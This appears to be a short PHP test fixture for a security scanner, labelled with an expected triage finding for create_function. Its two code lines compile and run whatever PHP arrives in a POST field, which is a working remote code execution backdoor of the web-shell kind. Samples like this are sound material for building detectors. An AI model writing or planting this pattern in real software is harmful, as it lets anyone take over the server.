<?php
// triage-expect: triage_php_create_function_request
$f = create_function('', $_POST['body']);
$f();
